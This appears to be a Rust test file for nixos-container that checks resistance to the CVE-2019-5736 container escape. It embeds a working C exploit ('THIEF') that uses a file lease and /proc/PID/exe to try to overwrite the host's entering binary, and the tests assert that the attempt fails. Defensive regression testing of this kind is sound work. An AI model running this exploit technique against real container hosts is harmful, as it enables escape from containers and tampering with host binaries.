//! The host's program behind `/proc/PID/exe` of what enters a container
//! (CVE-2019-5736).

use super::plant;
use crate::common::{Host, wait};

/// Keeps a login shell from being executed by a lease on its file, opens the program of
/// the process that waits for it, and writes to that once no process executes it.
const THIEF: &str = r#"
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static int steal(void) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while ((entry = readdir(proc))) {
        char path[300], name[64] = "";
        if (!isdigit(entry->d_name[0])) continue;
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        FILE *comm = fopen(path, "r");
        if (!comm) continue;
        fgets(name, sizeof name, comm);
        fclose(comm);
        if (strncmp(name, "nixos-container", 15)) continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        return open(path, O_RDONLY);
    }
    errno = ESRCH;
    return -1;
}
int main(int argc, char **argv) {
    sigset_t lease;
    int number, shell = open(argv[1], O_RDWR), result = creat("/root/result.new", 0600);
    sigemptyset(&lease);
    sigaddset(&lease, SIGIO);
    sigprocmask(SIG_BLOCK, &lease, 0);
    if (fcntl(shell, F_SETLEASE, F_WRLCK)) return 1;
    if (fork()) return 0;
    setsid();
    for (int stream = 0; stream < 3; stream++) close(stream);
    /* A lease is of the open file, and the signal goes to its owner. */
    fcntl(shell, F_SETOWN, getpid());
    if (sigwait(&lease, &number)) return 1;
    int program = steal();
    if (program < 0) dprintf(result, "not opened: %s\n", strerror(errno));
    close(shell);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    for (int tries = 0; program >= 0 && tries < 1000; tries++) {
        int writable = open(path, O_WRONLY | O_APPEND);
        if (writable >= 0 && write(writable, "stolen", 6) == 6) {
            dprintf(result, "written\n");
            break;
        }
        if (errno != ETXTBSY) {
            dprintf(result, "not written: %s\n", strerror(errno));
            break;
        }
        usleep(10000);
    }
    rename("/root/result.new", "/root/result");
}"#;

/// Where the program that enters is, a copy: the supervisor's file is busy as long as it
/// runs.
const ENTERING: &str = "/run/throwaway/entering";

/// Has a process enter, whose directory is prepared by this script; what the thief says.
fn steal_the_program(prepare: &str) -> String {
    let host = Host::new();
    host.create_and_start("foo");
    host.shell(&format!(
        "mkdir {ENTERING}; {prepare}; cp {} {ENTERING}",
        env!("CARGO_BIN_EXE_nixos-container")
    ));
    plant(&host, "foo", "/root/thief", THIEF);
    host.inside(
        "foo",
        "cp -L /bin/sh /root/shell
         sed -i '/^root:/s,:[^:]*$,:/root/shell,' $(readlink -f /etc/passwd)
         /root/thief /root/shell",
    );
    host.shell(&format!("{ENTERING}/nixos-container run foo -- true"));
    let result = host.place("STATE_DIR").join("foo/root/result");
    let result = host.file(&result.display().to_string());
    wait::until("the thief has tried", || result.exists());
    let said = std::fs::read_to_string(result).expect("readable");
    let written = host.shell(&format!("tail -c 6 {ENTERING}/nixos-container"));
    assert_ne!(written, "stolen", "{said}");
    said
}

#[test]
fn the_entered_program_is_not_the_hosts() {
    let said = steal_the_program(":");
    assert_eq!(said, "not written: Read-only file system\n");
}

/// The kernel stacks no third overlay (FILESYSTEM_MAX_STACK_DEPTH of `linux/fs.h`).
#[test]
fn the_entered_program_is_a_copy_where_no_overlay_shows_it() {
    let said = steal_the_program(&format!(
        "cd {ENTERING}
         for layer in 1 2; do
             mkdir -p /run/throwaway/$layer/upper /run/throwaway/$layer/work
             mount -t overlay overlay {ENTERING} -o lowerdir={ENTERING} \
                 -o upperdir=/run/throwaway/$layer/upper,workdir=/run/throwaway/$layer/work
             cd {ENTERING}
         done"
    ));
    assert_eq!(said, "not written: Operation not permitted\n");
}

/// A stub stays process 1, and is a copy of the supervisor.
#[test]
fn the_stubs_program_is_not_the_hosts() {
    let host = Host::new();
    let system =
        host.system_with_init("(echo stolen >>/proc/1/exe) 2>&1; echo tried; exec sleep infinity");
    host.create_of("foo", &system);
    host.append_conf("foo", "EXTRA_NSPAWN_FLAGS=\"--as-pid2 --notify-ready=no\"");
    host.run(&["start", "foo"]);
    let said = host.await_log("foo", "tried");
    assert!(said.contains("Read-only file system"), "{said}");
}
